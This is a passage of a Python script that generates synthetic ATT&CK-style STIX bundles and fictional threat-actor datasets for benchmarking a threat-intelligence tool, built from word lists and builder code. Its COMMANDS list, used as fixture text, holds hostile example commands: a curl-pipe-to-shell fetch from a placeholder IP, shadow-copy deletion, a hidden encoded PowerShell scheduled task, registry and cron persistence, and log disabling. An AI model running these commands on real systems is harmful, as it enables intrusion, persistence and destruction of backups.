#!/usr/bin/env python3
r"""Generate large SYNTHETIC inputs for ThreatDeck's load and aggregation benchmarks.

    python3 Benchmarks/generate-large-inputs.py OUTDIR
    python3 Benchmarks/generate-large-inputs.py --scale OUTDIR

writes two files into OUTDIR (created if missing), or with --scale only scale-dataset.json: the
native file below with its 1,000 actors ten times over (names numbered 2-10) and 1,000,000 events:

  attack-like-enterprise.json  A STIX bundle with the shape and size of MITRE ATT&CK Enterprise
                               (about 35 MB pretty-printed with 4-space indentation, about 25,000
                               objects of which about 20,000 are relationships). Every object carries
                               "spec_version": "2.1" right after "type", as in ATT&CK v18 (older
                               releases omitted it; the ThreatDeck tests cover that form). Object types,
                               property order,
                               x_mitre_* properties, external references and citations follow
                               ATT&CK v18 (../shared/data/stix/ics-attack-18.1.json is the model).
                               Group, software, campaign and technique names, descriptions, references
                               and ids are invented; tactic, mitigation and data-source names reuse
                               ATT&CK's vocabulary. Relationships and other *_ref(s) only point at
                               objects in the bundle, and every (Citation: X) has its reference.
                               Letters such as é, ü and CJK stay UTF-8; ’ “ ” – — are written as \u
                               escapes as ATT&CK does; texts carry \n, \" and backslashes.
  large-dataset.json           ThreatDeck's native format (threatdeck-report@1, compact JSON):
                               1,000 fictional actors and 100,000 events from 2016-01-01 to 2026-06-30.
                               Checked here only for ids and references; the full schema check is slow
                               at this size, so run it separately when the generator changes:
                               python3 -c 'import json, jsonschema; jsonschema.Draft202012Validator(
                               json.load(open("sample-data/schema/threatdeck-report-1.schema.json")))
                               .validate(json.load(open("OUTDIR/large-dataset.json")))'

Nothing in either file is intelligence: names, texts, references and URLs are made up (URLs use the
reserved .example domain, except the attack.mitre.org links that ATT&CK's own shape needs). Standard
library only; random.Random(20260331) makes both files byte-identical on every run.

If ../shared/data/misp-galaxy/threat-actor.json (relative to the repository root) is present, the
script stops with an error when a generated actor name or alias equals a real actor name or synonym.
"""
import datetime as dt
import json
import re
import sys
import time
import uuid
from pathlib import Path
import random

SEED = 20260331
HERE = Path(__file__).resolve().parent
MISP = HERE.parent.parent / "shared" / "data" / "misp-galaxy" / "threat-actor.json"

# --- shared vocabulary ----------------------------------------------------------------------------

# First words for actor names and aliases ("Abacus Panda"). Checked against the MISP threat-actor
# galaxy and against the colour, fabric, fruit and gem words Microsoft and CrowdStrike use.
NAME_WORDS = """
Abacus Acorn Alder Almond Anvil Arbor Argyle Ashen Aspen Atlas Awning Ballast Banyan Barley Basalt
Beacon Biscuit Bobbin Bramble Brindle Buckle Bushel Cactus Caliper Candle Canvas Capstan Cardamom
Cairn Chalk Chisel Cinder Clover Cobble Compass Cordage Corkscrew Cypress Dandelion Dovetail Driftwood
Dune Easel Eider Emery Fennel Ferrule Fescue Fiddle Flagstone Flint Fresco Furrow Gable Gimlet Gourd
Gravel Grommet Gypsum Halyard Hamper Harrow Hatchet Hearth Hemlock Hickory Hinge Hopper Inkwell
Jetty Juniper Keel Kelp Kettle Kiln Ladle Lantern Larch Lattice Ledger Lichen Lintel Loam Loom
Magnet Mallet Mantel Marble Marsh Meadow Mica Millet Mitre Mortar Mosaic Nettle Nutmeg Oakum
Oar Obelisk Ochre Orchard Osier Paddle Pantry Parchment Pebble Pergola Pestle Pewter Piston Plinth
Plover Pollen Pontoon Pulley Quarry Quill Quince Rafter Rattan Reed Resin Rivet Rosin Rudder
Russet Sable Saddle Sawdust Scaffold Sconce Sextant Shale Shingle Sickle Sienna Silt Skiff Slate
Sluice Sorrel Spindle Spruce Stencil Stirrup Sumac Sundial Sycamore Tallow Tamarind Tansy Teasel
Thimble Thistle Thyme Tiller Timber Tinder Trellis Trowel Tundra Turret Umber Vellum Verdigris Vetch
Walnut Wattle Wicker Winch Windlass Yarrow Yoke Zither
Abbey Adze Aileron Alcove Almanac Amulet Anchorage Antler Aqueduct Arbour Archway Armature Awl Axle
Bagpipe Balustrade Barnacle Barrow Bastion Bellows Belfry Birchbark Blacksmith Bollard Boathook Bodkin
Bracket Breakwater Bridle Buttress Cabinet Caboose Calliope Canopy Capstone Carafe Carillon Cartwheel
Causeway Chandler Chapel Chimney Cistern Clapboard Clerestory Cloister Clothesline Cobbler Colonnade
Cooper Coppice Corbel Cornice Cottage Cowbell Cranberry Crankshaft Crofter Crosier Crucible Cupola
Dibble Distaff Dormer Dovecote Drawbridge Drumlin Dulcimer Earthwork Eaves Embankment Escarpment
Farrier Fathom Fencepost Ferryman Fieldstone Finial Firebrick Flagpole Flume Footbridge Forge Foundry
Gantry Garret Gatehouse Gazebo Gristmill Gudgeon Gunwale Hacksaw Hammock Handcart Harness Hassock
Hayloft Headland Hedgerow Helm Hillock Hitching Homestead Horseshoe Hourglass Inglenook Isthmus
Jamb Joist Keystone Kindling Kingpost Knapsack Lamplight Landing Lanyard Larder Lathe Lectern Levee
Lodestone Loft Lychgate Marlin Masonry Meridian Milestone Millpond Minaret Moorland Mooring Nave Nook
Oakwood Outcrop Paddock Palisade Pantile Parapet Pasture Pavilion Peat Pennant Pilaster Pillory
Pinnacle Pitchfork Plough Portico Postern Quayside Rampart Rectory Reliquary Ridgepole Rowlock Runnel
Scullery Scythe Shipwright Shutter Signpost Skylight Slipway Smithy Spinney Spire Stable Stave Steeple
Stile Stockade Stonemason Summerhouse Tannery Tapestry Thatch Threshold Tidewater Tollgate Towpath
Treadle Trestle Truss Turnstile Vestry Viaduct Vineyard Wainscot Waterwheel Weathervane Wellspring
Wheelwright Whetstone Windmill Woodpile Workbench
""".split()

# CrowdStrike-style suffixes as ThreatDeck reads them (Sources/ThreatModel/Vocabulary), with the
# share of actors that get each and the actor type they imply.
ANIMALS = [  # suffix, nexus, type, weight
    ("Panda", "CN", "state", 30), ("Bear", "RU", "state", 14), ("Chollima", "KP", "state", 9),
    ("Kitten", "IR", "state", 10), ("Tiger", "IN", "state", 3), ("Leopard", "PK", "state", 2),
    ("Buffalo", "VN", "state", 2), ("Crane", "KR", "state", 2), ("Ocelot", "CO", "state", 1),
    ("Hawk", "SY", "state", 1), ("Saiga", "KZ", "state", 1), ("Sphinx", "EG", "state", 1),
    ("Spider", None, "ecrime", 18), ("Jackal", None, "hacktivist", 6),
]
ANIMAL_OF_NEXUS = {"CN": "Panda", "RU": "Bear", "KP": "Chollima", "IR": "Kitten", "IN": "Tiger",
                   "PK": "Leopard", "VN": "Buffalo", "KR": "Crane"}
# Microsoft-style suffixes; first words for these come from MS_WORDS only (none is a real name).
WEATHER = {"CN": "Typhoon", "RU": "Blizzard", "KP": "Sleet", "IR": "Sandstorm", "KR": "Hail",
           "VN": "Cyclone", "ecrime": "Tempest"}
MS_WORDS = """Abalone Bilberry Borage Bulrush Calico Chambray Cowrie Damask Dimity Gabardine Grosgrain
Haddock Huckaback Jacquard Kumquat Loquat Madras Mullet Muslin Organdy Percale Pompano Poplin Rambutan
Sateen Scallop Seersucker Serge Soursop Tarpon Tulle Voile Whelk Yuzu""".split()
# A few CJK and accented aliases, as vendors from other regions name the same clusters.
CJK_ALIASES = ["墨石", "雪松", "紫藤", "铁砧", "灯笼", "은하수", "돌풍", "霧笛", "青苔", "琥珀", "石榴", "山葵"]
ACCENT_ALIASES = ["Équinoxe", "Tempête Grise", "Brückenbauer", "Søndervind", "Ñandú Gris", "Őrszem",
                  "Çakmak", "Łabędź", "Škorpion", "Nordlys Ørn"]

VENDORS = [  # name, domain
    ("Northwind Labs", "northwind-labs.example"), ("Contoso Threat Research", "contoso.example"),
    ("Fabrikam Security", "fabrikam.example"), ("Kestrel Response", "kestrel-response.example"),
    ("Blue Heron Intelligence", "blueheron.example"), ("Sécurité Boréale", "securite-boreale.example"),
    ("Müller Forensik", "mueller-forensik.example"), ("Tailspin CERT", "tailspin-cert.example"),
    ("Wingtip Analytics", "wingtip.example"), ("Litware Intel", "litware.example"),
    ("Adatum Incident Response", "adatum.example"), ("Proseware Labs", "proseware.example"),
    ("Woodgrove Security", "woodgrove.example"), ("Lamna Defense", "lamna.example"),
    ("Relecloud Threat Team", "relecloud.example"), ("Trey Research", "treyresearch.example"),
    ("Coho CSIRT", "coho.example"), ("Margie’s Travel CERT", "margies-travel.example"),
    ("Nordlys Sikkerhet", "nordlys.example"), ("Øresund Cyber", "oresund-cyber.example"),
    ("Tōkai Security Lab", "tokai-lab.example"), ("Southridge Research", "southridge.example"),
    ("Humongous Insurance Cyber", "humongous.example"), ("Alpine SOC", "alpine-soc.example"),
]
SURNAMES = """Abernathy Achterberg Baptiste Bergström Carvalho Castellanos Dąbrowski Delacroix Eriksen Fairweather
Fontaine García Gutiérrez Halvorsen Hoffmann Ibáñez Jankowski Kovačević Lefèvre Lindqvist MacAllister Marchetti
Müller Nakamura Nguyễn Novák Ó Briain O'Connell Okonkwo Petrov Quintero Rasmussen Šimek Sørensen Takahashi
Underwood Vasquez Whitcombe Yilmaz Zelenko""".split()
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September",
          "October", "November", "December"]
SHORT_MONTHS = ["Jan", "Feb", "March", "April", "May", "June", "July", "Aug", "Sept", "Oct", "Nov", "Dec"]

SUBJECTS = ["Adversaries", "Adversaries", "Adversaries", "Threat actors", "An adversary", "Operators",
            "Intruders"]
MODALS = ["may", "may", "may", "can", "have been observed to", "often", "sometimes", "may attempt to"]
VERBS = ["abuse", "modify", "enumerate", "inject code into", "stage data in", "hijack", "disable",
         "masquerade as", "tamper with", "query", "leverage", "create", "delete", "register", "impersonate",
         "intercept", "harvest credentials from", "execute payloads through", "proxy traffic via",
         "schedule execution with", "compress and encrypt", "obfuscate", "overwrite", "redirect", "clone",
         "enable", "downgrade", "poison", "exfiltrate", "side-load libraries into"]
OBJECTS = ["scheduled tasks", "registry run keys", "cloud API tokens", "browser session cookies",
           "service control manager entries", "WMI event subscriptions", "kernel modules", "launch agents",
           "container images", "identity provider federation settings", "email forwarding rules",
           "SSH authorized_keys files", "DNS resolvers", "print processors", "COM objects",
           "shared library search paths", "PowerShell profiles", "Group Policy objects",
           "virtual machine snapshots", "backup catalogs", "firmware images", "password managers",
           "OAuth application consents", "mailbox export requests", "hypervisor management interfaces",
           "code signing certificates", "LSASS process memory", "Kerberos tickets", "application access tokens",
           "network share permissions", "cron jobs", "systemd timers", "log files", "event tracing providers",
           "security tool configurations", "web shells", "remote desktop sessions", "VPN appliances",
           "domain trust relationships", "cloud storage buckets", "instance metadata services",
           "serverless functions", "CI/CD pipeline secrets", "package manager caches", "boot records"]
PURPOSES = ["to evade detection", "to maintain persistence", "to escalate privileges",
            "to gather information about the victim environment", "to move laterally within the network",
            "to collect sensitive data", "prior to exfiltration", "to impair defenses",
            "to establish command and control", "to execute malicious payloads", "to disrupt availability",
            "to blend in with legitimate administrative activity", "to access credentials",
            "in support of follow-on operations", "during the initial stages of an intrusion"]
ADMIN_TASKS = ["automate routine maintenance", "manage software updates", "troubleshoot connectivity",
               "deploy configuration changes at scale", "audit user activity", "recover from failures",
               "synchronise directory data", "monitor performance"]
PLATFORMS = ["Windows", "Linux", "macOS", "IaaS", "SaaS", "Office Suite", "Identity Provider", "Network Devices",
             "Containers", "ESXi"]
PATHS = {
    "Windows": [r"C:\Windows\System32\Tasks", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
                r"HKCU\Software\Classes\CLSID", r"%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup",
                r"C:\ProgramData\Microsoft\Crypto\RSA"],
    "Linux": ["/etc/cron.d", "~/.ssh/authorized_keys", "/etc/systemd/system", "/var/log/auth.log", "/etc/ld.so.preload"],
    "macOS": ["/Library/LaunchAgents", "~/Library/Application Support", "/private/var/db/launchd.db",
              "~/.ssh/authorized_keys"],
}
COMMANDS = [
    r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v Updater /d "C:\Users\Public\upd.exe"',
    r'schtasks /create /tn "OneSync" /tr "powershell -w hidden -enc SQBFAFgA" /sc onlogon',
    'cmd.exe /c "whoami /all && net group \\"Domain Admins\\" /domain"',
    "curl -s http://198.51.100.7/x.sh | sh",
    r'wmic /node:"10.0.0.5" process call create "rundll32.exe C:\Windows\Temp\m.dll,Start"',
    "crontab -l | { cat; echo \"*/5 * * * * /tmp/.s\"; } | crontab -",
    'powershell -c "Get-ADComputer -Filter * | Select-Object Name"',
    "launchctl load -w ~/Library/LaunchAgents/com.apple.updates.plist",
    r'vssadmin delete shadows /all /quiet',
    "esxcli system syslog config set --loghost=''",
    'aws s3 cp s3://corp-backups/ . --recursive',
]
TECHNIQUE_WORDS_A = ["Scheduled", "Remote", "Cloud", "Credential", "Process", "Boot", "Network", "Browser",
                     "Email", "Account", "Service", "Kernel", "Firmware", "Container", "Identity", "Web",
                     "Registry", "Memory", "Token", "Script", "Archive", "Log", "Domain", "Storage", "Session",
                     "Hypervisor", "Supply Chain", "Software", "Peripheral", "Input", "Clipboard", "Screen",
                     "Audio", "System", "Device", "Data", "Endpoint", "Directory", "Trust", "Protocol", "Proxy",
                     "Backup", "Policy", "Permission", "Hardware", "Driver", "Library", "Module", "Task", "Mailbox"]
TECHNIQUE_WORDS_B = ["Hijacking", "Manipulation", "Discovery", "Injection", "Abuse", "Execution", "Modification",
                     "Impersonation", "Staging", "Tampering", "Collection", "Interception", "Obfuscation",
                     "Enumeration", "Masquerading", "Persistence", "Redirection", "Spoofing", "Harvesting",
                     "Compromise", "Subversion", "Poisoning", "Exploitation", "Relay", "Side-Loading", "Wiping",
                     "Encryption", "Capture", "Forging", "Delegation"]
SUBTECHNIQUE_NAMES = ["Cron", "Launch Agent", "Systemd Service", "Windows Service", "Registry Run Keys",
                      "DLL Search Order", "COM Object", "Office Template", "Browser Extension", "SSH Keys",
                      "Cloud Accounts", "Domain Accounts", "Local Accounts", "Kerberos Tickets", "OAuth Tokens",
                      "PowerShell", "Python", "JavaScript", "Visual Basic", "Unix Shell", "AppleScript",
                      "Container API", "Serverless Functions", "Group Policy", "Email Forwarding Rule", "Web Shell",
                      "Print Processors", "Boot Loader", "UEFI Variables", "VM Snapshots", "Hypervisor CLI",
                      "Cloud Logs", "Mailbox Export", "DNS Records", "Certificate Store", "Password Managers",
                      "Keychain", "LSASS Memory", "Security Account Manager", "Directory Database", "At Jobs",
                      "Login Items", "Startup Folder", "Network Logon Script", "Shortcut Modification",
                      "Image File Execution Options", "Accessibility Features", "AppInit DLLs", "Netsh Helper",
                      "Time Providers", "Port Monitors", "LSA Packages", "Screensaver", "Trap", "Emond",
                      "Dynamic Linker", "Reflective Loading", "Process Hollowing", "Thread Hijacking",
                      "Asynchronous Procedure Call", "Ptrace", "Proc Memory", "VDSO", "Extra Window Memory",
                      "Spearphishing Attachment", "Spearphishing Link", "Spearphishing via Service",
                      "Voice Phishing", "Device Registration", "Additional Cloud Roles", "MFA Fatigue",
                      "Pass the Hash", "Pass the Ticket", "Golden Ticket", "Silver Ticket", "Kerberoasting",
                      "AS-REP Roasting", "DCSync", "Cached Domain Credentials", "Bash History", "Private Keys",
                      "Cloud Secrets Management Stores", "Container Secrets", "Chat Messages", "Wiki Pages",
                      "Code Repositories", "Symmetric Cryptography", "Asymmetric Cryptography", "Junk Data",
                      "Steganography", "Domain Fronting", "Multi-hop Proxy", "Internal Proxy", "External Proxy",
                      "Dead Drop Resolver", "Bidirectional Communication", "Fast Flux DNS", "DNS Calculation"]
TACTICS = [  # id, name, shortname
    ("TA0043", "Reconnaissance", "reconnaissance"), ("TA0042", "Resource Development", "resource-development"),
    ("TA0001", "Initial Access", "initial-access"), ("TA0002", "Execution", "execution"),
    ("TA0003", "Persistence", "persistence"), ("TA0004", "Privilege Escalation", "privilege-escalation"),
    ("TA0005", "Defense Evasion", "defense-evasion"), ("TA0006", "Credential Access", "credential-access"),
    ("TA0007", "Discovery", "discovery"), ("TA0008", "Lateral Movement", "lateral-movement"),
    ("TA0009", "Collection", "collection"), ("TA0011", "Command and Control", "command-and-control"),
    ("TA0010", "Exfiltration", "exfiltration"), ("TA0040", "Impact", "impact"),
]
TACTIC_GOALS = {  # paraphrased
    "reconnaissance": "learn enough about the target to plan later steps",
    "resource-development": "set up infrastructure, accounts and tools for the operation",
    "initial-access": "gain a first foothold in the environment", "execution": "get their code to run",
    "persistence": "keep access across restarts and credential changes",
    "privilege-escalation": "obtain more powerful permissions", "defense-evasion": "stay unnoticed",
    "credential-access": "obtain account credentials and secrets", "discovery": "map the environment",
    "lateral-movement": "reach other systems in the environment", "collection": "gather the data they came for",
    "command-and-control": "talk to and steer compromised systems", "exfiltration": "move data out",
    "impact": "disrupt, corrupt or destroy systems and data",
}
TACTIC_WEIGHTS = [3, 4, 5, 6, 9, 6, 12, 7, 6, 4, 6, 6, 4, 5]
MITIGATION_NAMES = ["Account Use Policies", "Active Directory Configuration", "Antivirus/Antimalware",
                    "Application Developer Guidance", "Application Isolation and Sandboxing", "Audit",
                    "Behavior Prevention on Endpoint", "Boot Integrity", "Code Signing",
                    "Credential Access Protection", "Data Backup", "Data Loss Prevention",
                    "Disable or Remove Feature or Program", "Do Not Mitigate", "Encrypt Sensitive Information",
                    "Environment Variable Permissions", "Execution Prevention", "Exploit Protection",
                    "Filter Network Traffic", "Limit Access to Resource Over Network",
                    "Limit Hardware Installation", "Limit Software Installation", "Multi-factor Authentication",
                    "Network Intrusion Prevention", "Network Segmentation", "Operating System Configuration",
                    "Password Policies", "Pre-compromise", "Privileged Account Management",
                    "Privileged Process Integrity", "Remote Data Storage", "Restrict File and Directory Permissions",
                    "Restrict Library Loading", "Restrict Registry Permissions", "Restrict Web-Based Content",
                    "SSL/TLS Inspection", "Software Configuration", "Threat Intelligence Program",
                    "Update Software", "User Account Control", "User Account Management", "User Training",
                    "Vulnerability Scanning", "Web Session Cookie Protection", "Out-of-Band Communications Channel",
                    "Data Integrity Verification", "Secure Channel Configuration", "Hardware Token Binding",
                    "Cloud Tenant Hardening", "Hypervisor Lockdown"]
DATA_SOURCES = ["Process", "File", "Command", "Network Traffic", "Windows Registry", "Module", "Script",
                "User Account", "Logon Session", "Cloud Service", "Cloud Storage", "Instance", "Image", "Snapshot",
                "Volume", "Container", "Pod", "Cluster", "Application Log", "Active Directory", "Driver",
                "Firmware", "Kernel", "Service", "Scheduled Job", "Named Pipe", "WMI", "Certificate",
                "Domain Name", "Internet Scan", "Persona", "Group", "Web Credential", "Malware Repository",
                "Network Share", "Sensor Health", "Drive", "Mailbox"]
DC_ACTIONS = ["Creation", "Modification", "Deletion", "Access", "Metadata", "Enumeration", "Content",
              "Termination", "Connection", "Execution"]
LOG_SOURCES = [("WinEventLog:Security", ["EventCode=4688", "EventCode=4624", "EventCode=4663", "EventCode=4698",
                                         "EventCode=4720", "EventCode=5145", "EventCode=4769"]),
               ("WinEventLog:Sysmon", ["EventCode=1", "EventCode=3", "EventCode=7", "EventCode=10", "EventCode=11",
                                       "EventCode=12", "EventCode=13", "EventCode=22"]),
               ("WinEventLog:PowerShell", ["EventCode=4104", "EventCode=4103"]),
               ("auditd:SYSCALL", ["execve", "open", "connect", "unlink", "ptrace", "init_module"]),
               ("auditd:PATH", ["None"]), ("linux:syslog", ["sshd", "sudo", "cron"]),
               ("macos:unifiedlog", ["process exec", "file write", "launchd", "tccd"]),
               ("macos:endpointsecurity", ["ES_EVENT_TYPE_NOTIFY_EXEC", "ES_EVENT_TYPE_NOTIFY_CREATE"]),
               ("AWS:CloudTrail", ["AssumeRole", "CreateAccessKey", "PutBucketPolicy", "StopLogging"]),
               ("azure:signinlogs", ["None"]), ("azure:activity", ["Microsoft.Compute/virtualMachines/write"]),
               ("gcp:audit", ["SetIamPolicy", "storage.objects.get"]), ("m365:unified", ["New-InboxRule",
                                                                                      "MailItemsAccessed"]),
               ("okta:system", ["user.session.start", "user.mfa.factor.deactivate"]),
               ("esxi:hostd", ["vim.event.VmReconfiguredEvent"]), ("esxi:shell", ["None"]),
               ("kubernetes:apiserver", ["create pod", "exec"]), ("NSM:Flow", ["None"]),
               ("NSM:Connections", ["None"]), ("zeek:dns", ["query"]), ("networkdevice:syslog", ["config change"]),
               ("ebpf:syscalls", ["None"]), ("EDR:file", ["None"]), ("EDR:memory", ["None"])]
MALWARE_SUFFIXES = ["", "", "", "", "", " RAT", "Loader", " Stealer", "Door", " Backdoor", "Bot", "Wiper",
                    "Locker", "Shell", "Spy", "Kit"]
SYLLABLES = ["kra", "vel", "mor", "tan", "qui", "zel", "dro", "phe", "lum", "nix", "tor", "vas", "bri", "cal",
             "dex", "fen", "gor", "hal", "jin", "kor", "lex", "mar", "nov", "pax", "rin", "sol", "tav", "ulm",
             "vor", "wex", "yar", "zun", "obe", "ist", "arn", "eko", "ula", "quo", "ryx", "thal"]
INDUSTRY_WORDS = ["government", "defense", "telecommunications", "energy", "financial", "healthcare",
                  "technology", "manufacturing", "aerospace", "education", "media", "cryptocurrency", "legal",
                  "non-governmental", "transportation", "semiconductor", "think tank"]
AREA_WORDS = ["Europe", "North America", "South Korea", "Japan", "Southeast Asia", "the Middle East",
              "Central Asia", "Latin America", "Eastern Europe", "Ukraine", "Taiwan", "India", "Africa",
              "Türkiye", "Côte d’Ivoire", "São Paulo", "Scandinavia"]
NEXUS_PHRASES = {
    "CN": ["a suspected China-based cyber espionage group", "a People’s Republic of China (PRC) state-sponsored group"],
    "RU": ["a Russia-nexus threat group", "a group attributed to Russian intelligence services"],
    "KP": ["a North Korean state-sponsored group", "a DPRK-nexus group focused on revenue generation"],
    "IR": ["an Iran-nexus cyber espionage group", "a group assessed to operate on behalf of Iranian interests"],
    "IN": ["a suspected South Asian espionage group"], "PK": ["a suspected Pakistan-based threat group"],
    "VN": ["a suspected Vietnam-based espionage group"], "KR": ["a suspected South Korea-based group"],
    "ecrime": ["a financially motivated threat group", "a cybercriminal group operating a ransomware affiliate program"],
    "hacktivist": ["a self-described hacktivist collective"],
    None: ["a threat group of unknown origin", "an activity cluster with no confirmed attribution"],
}


def pick_weighted(rng, items, weights):
    return rng.choices(items, weights=weights)[0]


def distinct(rng, pool, count, weights=None):
    """Up to count distinct items of pool, weighted when weights are given (order kept, no sets)."""
    count = min(count, len(pool))
    if weights is None:
        return rng.sample(pool, count)
    chosen, seen, tries = [], {}, 0
    while len(chosen) < count and tries < count * 20:
        batch = rng.choices(range(len(pool)), weights=weights, k=count - len(chosen))
        for i in batch:
            if i not in seen and len(chosen) < count:
                seen[i] = True
                chosen.append(pool[i])
        tries += 1
    return chosen


# --- STIX bundle ----------------------------------------------------------------------------------

EPOCH = dt.datetime(2017, 5, 31, tzinfo=dt.timezone.utc)
LATEST = dt.datetime(2025, 10, 24, 12, 0, tzinfo=dt.timezone.utc)
# Size knobs: with these the bundle comes to about 35.8 MB, 24,900 objects and 20,100 relationships.
# A cited reference adds about 330 bytes to a relationship; ATT&CK cites one on nearly every "uses",
# which at 20,000 relationships would make the file about 38 MB, so half of them cite nothing here.
USES_TOTAL = 17_300        # "uses" relationships
MITIGATES_TOTAL = 1_450    # "mitigates" relationships
UNCITED_USES = 0.52        # share of "uses" relationships whose description cites nothing


class Bundle:
    """Builds the ATT&CK-like bundle; self.rng drives every choice."""

    def __init__(self, rng):
        self.rng = rng
        self.identity = self.new_id("identity")
        self.marking = self.new_id("marking-definition")
        # ATT&CK releases touch many objects with one timestamp; reuse a few such stamps.
        self.release_stamps = [self.stamp(dt.datetime(y, m, d, tzinfo=dt.timezone.utc), True)
                               for y, m, d in [(2022, 10, 21), (2023, 4, 25), (2023, 10, 31), (2024, 4, 10),
                                               (2024, 10, 15), (2025, 4, 15), (2025, 4, 25), (2025, 10, 21)]]
        self.refs = {}          # source_name -> reference dict
        self.generic_refs = []  # source_names for technique-level citations
        self.used_names = {}

    # ids and times
    def new_id(self, kind):
        return f"{kind}--{uuid.UUID(int=self.rng.getrandbits(128), version=4)}"

    def stamp(self, when, fixed=False):
        if not fixed:
            when = when.replace(microsecond=self.rng.randrange(1000) * 1000)
        return when.strftime("%Y-%m-%dT%H:%M:%S.") + f"{when.microsecond // 1000:03d}Z"

    def created_modified(self, earliest=EPOCH, latest=LATEST):
        span = int((latest - earliest).total_seconds())
        created = earliest + dt.timedelta(seconds=self.rng.randrange(span))
        if self.rng.random() < 0.45:
            modified = self.rng.choice(self.release_stamps)
            if modified >= self.stamp(created, True):
                return created, self.stamp(created), modified
        rest = int((LATEST - created).total_seconds())
        modified = created + dt.timedelta(seconds=self.rng.randrange(max(1, rest)))
        return created, self.stamp(created), self.stamp(modified)

    def common_tail(self, version="1.0", deprecated=False, domains=True, spec="3.2.0"):
        tail = {"x_mitre_modified_by_ref": self.identity, "x_mitre_deprecated": deprecated}
        if domains:
            tail["x_mitre_domains"] = ["enterprise-attack"]
        tail["x_mitre_version"] = version
        tail["x_mitre_attack_spec_version"] = spec
        return tail

    def version(self):
        rng = self.rng
        return pick_weighted(rng, ["1.0", "1.1", "1.2", "1.3", "1.4", "2.0", "2.1", "2.2", "3.0", "3.1", "4.0"],
                             [30, 14, 10, 5, 3, 12, 6, 3, 4, 2, 2])

    def spec(self):
        return "3.3.0" if self.rng.random() < 0.3 else "3.2.0"

    def mitre_ref(self, path, external_id):
        return {"source_name": "mitre-attack", "url": f"https://attack.mitre.org/{path}", "external_id": external_id}

    # names
    def unique(self, make):
        for _ in range(1000):
            name = make()
            key = name.casefold()
            if key not in self.used_names:
                self.used_names[key] = True
                return name
        raise RuntimeError("name space exhausted")

    def coined(self, parts=(2, 3)):
        rng = self.rng
        return "".join(rng.choice(SYLLABLES) for _ in range(rng.randint(*parts))).capitalize()

    # references and citations
    def make_ref(self, topic, year=None):
        rng = self.rng
        vendor, domain = rng.choice(VENDORS)
        published = dt.date(min(year or rng.randint(2012, 2025), 2025), rng.randint(1, 12), rng.randint(1, 28))
        published = min(published, dt.date(2025, 9, 30))
        year, month, day = published.year, published.month - 1, published.day
        for attempt in range(50):
            short = vendor.split()[0] if rng.random() < 0.6 else vendor
            name = f"{short} {topic} {SHORT_MONTHS[month]} {year}" if attempt == 0 or rng.random() < 0.5 \
                else f"{short} {topic} {MONTHS[month]} {day} {year}"
            if attempt > 10:
                name = f"{name} {attempt}"
            if name not in self.refs:
                break
        if rng.random() < 0.7:
            who = rng.choice(SURNAMES) + ", " + rng.choice("ABCDEFGHJKLMNPRSTVW") + "."
            if rng.random() < 0.35:
                who += " et al."
        else:
            who = vendor + "."
        title = self.title(topic)
        seen = min(published + dt.timedelta(days=rng.randint(0, 900)), dt.date(2025, 10, 1))
        ref = {"source_name": name,
               "description": f"{who} ({year}, {MONTHS[month]} {day}). {title}. "
                              f"Retrieved {MONTHS[seen.month - 1]} {seen.day}, {seen.year}."}
        if rng.random() < 0.95:
            slug = re.sub(r"[^a-z0-9]+", "-", title.lower()).strip("-")[:40].strip("-") or "report"
            if rng.random() < 0.2:
                ref["url"] = f"https://{domain}/reports/{year}/{slug}.pdf"
            else:
                ref["url"] = f"https://{domain}/blog/{year}/{slug}/"
        self.refs[name] = ref
        return name

    def title(self, topic):
        rng = self.rng
        forms = [f"Inside the {topic} Toolkit", f"Tracking {topic}’s Latest Campaign Against {rng.choice(INDUSTRY_WORDS).title()} Targets",
                 f"“{topic}” Returns With a New Loader", f"{topic}: Analysis of a {rng.choice(['Modular', 'Stealthy', 'Cross-Platform', 'Fileless'])} Implant",
                 f"Threat Brief — {topic}", f"Hunting for {topic} in {rng.choice(['Cloud', 'Hybrid', 'OT', 'Enterprise'])} Environments",
                 f"{rng.choice(['Q1', 'Q2', 'Q3', 'Q4', 'H1', 'H2'])} Threat Landscape Report",
                 f"Detecting {topic} With {rng.choice(['Sysmon', 'auditd', 'EDR Telemetry', 'Cloud Logs'])}"]
        return rng.choice(forms)

    def cite(self, names):
        return "".join(f"(Citation: {n})" for n in names)

    # text
    def link(self, obj):
        return f"[{obj['name']}]({obj['_url']})"

    def sentence(self, techniques=None):
        rng = self.rng
        roll = rng.random()
        obj, obj2 = rng.sample(OBJECTS, 2)
        if roll < 0.34:
            text = f"{rng.choice(SUBJECTS)} {rng.choice(MODALS)} {rng.choice(VERBS)} {obj} {rng.choice(PURPOSES)}."
        elif roll < 0.44:
            text = (f"{obj[0].upper() + obj[1:]} are commonly used by administrators to {rng.choice(ADMIN_TASKS)}, "
                    f"which makes malicious use difficult to distinguish from benign activity.")
        elif roll < 0.52:
            platform = rng.choice(PLATFORMS[:3])
            text = f"On {platform} systems, {obj} may be stored in `{rng.choice(PATHS[platform])}`."
        elif roll < 0.60:
            text = f"For example, an adversary may run `{rng.choice(COMMANDS)}` to {rng.choice(VERBS)} {obj}."
        elif roll < 0.67:
            text = (f"Unlike {obj}, {obj2} are often overlooked by defenders — particularly in environments "
                    f"where {rng.choice(['logging', 'auditing', 'inventory'])} is limited.")
        elif roll < 0.74 and techniques:
            t = rng.choice(techniques)
            text = f"Adversaries may also use [{t['name']}]({t['_url']}) to {rng.choice(VERBS)} {obj}."
        elif roll < 0.80:
            text = (f"This behavior has been observed in intrusions targeting {rng.choice(INDUSTRY_WORDS)} "
                    f"organizations in {rng.choice(AREA_WORDS)}.")
        elif roll < 0.86:
            text = (f"In some cases, the adversary’s tooling relies on “living off the land” binaries "
                    f"rather than custom malware {rng.choice(PURPOSES)}.")
        elif roll < 0.92:
            text = (f"Once {obj} are under adversary control, follow-on actions such as {rng.choice(VERBS)} "
                    f"{obj2} become possible without additional tooling.")
        else:
            text = (f"{rng.choice(SUBJECTS)} {rng.choice(MODALS)} combine this with {obj2}, for example by "
                    f"{rng.choice(['chaining', 'scripting', 'staging', 'wrapping'])} commands "
                    f"{rng.choice(PURPOSES)}.")
        return text

    def paragraphs(self, count, sentences, cite_pool, techniques=None, cite_rate=0.35):
        rng = self.rng
        paras, cited = [], []
        for _ in range(count):
            parts = []
            for _ in range(rng.randint(*sentences)):
                s = self.sentence(techniques)
